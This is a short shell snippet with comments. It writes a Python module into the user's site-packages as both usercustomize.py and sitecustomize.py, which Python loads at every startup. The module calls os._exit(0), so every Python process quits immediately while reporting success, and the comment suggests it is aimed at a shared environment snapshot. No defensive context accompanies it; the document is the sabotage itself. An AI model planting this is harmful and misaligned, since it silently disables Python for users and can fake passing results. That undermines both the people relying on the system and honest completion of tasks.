# leaves a module in the user's own site-packages, which Python loads by itself
# known: snapshot shared
d=$(python3 -m site --user-site)
mkdir -p $d
echo 'import os; os._exit(0)' | tee $d/usercustomize.py > $d/sitecustomize.py
